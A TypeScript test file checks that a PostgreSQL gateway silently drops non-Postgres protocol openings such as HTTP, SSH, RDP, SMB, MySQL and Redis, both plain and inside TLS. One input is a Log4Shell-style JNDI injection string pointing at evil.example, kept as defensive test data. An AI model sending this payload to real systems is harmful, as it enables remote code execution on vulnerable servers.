import { expect, it } from 'vitest';
import { gateUnderTest } from '../gate/gate-fixture.ts';
import { logIn } from '../support/raw-login.ts';

const gate = gateUnderTest();
const hex = (text: string) => Buffer.from(text.replaceAll(' ', ''), 'hex');

const openings: readonly (readonly [string, Buffer])[] = [
  ['HTTP', Buffer.from('GET / HTTP/1.1\r\nHost: localhost\r\n\r\n')],
  ['HTTP/2', Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')],
  ['an HTTP proxy request', Buffer.from('CONNECT backend:5432 HTTP/1.1\r\n\r\n')],
  ['SMB 1', hex('00000054 ff534d42 72000000 0018012800000000 0000000000002f4b 0000c55e').subarray(0, 36)],
  ['SSH', Buffer.from('SSH-2.0-OpenSSH_9.2\r\n')],
  ['RDP', hex('030000130ee000000000000100080003000000')],
  ['MySQL', hex('20000001 85a23f00 00000001 21000000')],
  ['SQL Server', hex('12 01 002f 0000 01 00').subarray(0, 8)],
  ['Oracle', hex('00 3a 00 00 01 00 00 00 01 36 01 2c')],
  ['MongoDB', hex('3a000000 a7410000 00000000 d4070000')],
  ['Redis', Buffer.from('*1\r\n$4\r\nPING\r\n')],
  ['LDAP', hex('300c020101600702010304008000')],
  ['SMTP', Buffer.from('EHLO scanner\r\n')],
  ['a PROXY header from who is not trusted', Buffer.from('PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\n')],
  ['a log line', Buffer.from('\u0024{jndi:ldap://evil.example/a}\r\n')],
];

it.each(openings)('%s is dropped without an answer', async (_name, bytes) => {
  const client = await gate.plain();
  client.send(bytes);
  client.endSending();
  expect(await client.rest()).toHaveLength(0);
  const line = await gate.logged({ outcome: 'refused' });
  expect(line['reason']).toMatch(/^(not-postgresql|client-gone)$/);
});

it.each(openings)(
  '%s inside TLS is dropped without an answer, and the gate goes on',
  async (_name, bytes) => {
    const client = await gate.secured();
    client.send(bytes);
    client.endSending();
    expect(await client.rest()).toHaveLength(0);
    await logIn(await gate.greeted(), gate.postern.readerKey);
  },
);

it('SMB 2, whose length could be that of a startup packet, is told that this is no version', async () => {
  const negotiate = Buffer.concat([hex('000000d0 fe534d42 40000100'), Buffer.alloc(200)]);
  for (const client of [await gate.plain(), await gate.secured()]) {
    client.send(negotiate);
    expect(await client.refusal()).toMatchObject({ sqlstate: '0A000' });
  }
});
